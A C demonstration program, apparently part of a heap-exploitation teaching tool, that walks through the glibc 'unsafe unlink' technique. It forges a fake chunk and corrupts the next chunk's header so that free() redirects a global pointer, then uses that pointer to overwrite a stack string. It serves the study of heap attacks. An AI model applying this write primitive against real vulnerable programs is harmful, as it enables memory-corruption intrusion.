/*
 * unsafe-unlink, in C: the twin of the Java sample UnsafeUnlink (mallocscope run --c unsafe-unlink).
 * A fake free chunk inside chunk0 makes free(chunk1) unlink it, which points the global chunk0_ptr at itself.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <stdint.h>
#include <assert.h>

uint64_t *chunk0_ptr;

int main(void) {
    setbuf(stdout, NULL);
    printf("Unsafe unlink: free() writes through a forged chunk.\n");
    int malloc_size = 0x420;

    chunk0_ptr = (uint64_t *)malloc(malloc_size);
    uint64_t *chunk1_ptr = (uint64_t *)malloc(malloc_size);
    printf("The global chunk0_ptr is at %p and points to %p.\n", (void *)&chunk0_ptr, (void *)chunk0_ptr);
    printf("The chunk to corrupt is at %p.\n", (void *)chunk1_ptr);

    chunk0_ptr[1] = chunk0_ptr[-1] - 0x10;
    chunk0_ptr[2] = (uint64_t)&chunk0_ptr - sizeof(uint64_t) * 3;
    chunk0_ptr[3] = (uint64_t)&chunk0_ptr - sizeof(uint64_t) * 2;
    printf("Fake chunk fd: %p\n", (void *)chunk0_ptr[2]);
    printf("Fake chunk bk: %p\n", (void *)chunk0_ptr[3]);

    uint64_t *chunk1_hdr = chunk1_ptr - 2;
    chunk1_hdr[0] = malloc_size;
    printf("chunk1's prev_size is now 0x%lx instead of 0x430.\n", (unsigned long)chunk1_hdr[0]);
    chunk1_hdr[1] &= ~1;

    printf("free(chunk1) merges backwards and unlinks the fake chunk.\n");
    free(chunk1_ptr);
    printf("chunk0_ptr now holds %p.\n", (void *)chunk0_ptr);

    char victim_string[8];
    strcpy(victim_string, "Hello!~");
    chunk0_ptr[3] = (uint64_t)victim_string;
    printf("Original value: %s\n", victim_string);
    chunk0_ptr[0] = 0x4141414142424242LL;
    printf("New value: %.8s\n", victim_string);
    assert(*(long *)victim_string == 0x4141414142424242L);
    return 0;
}
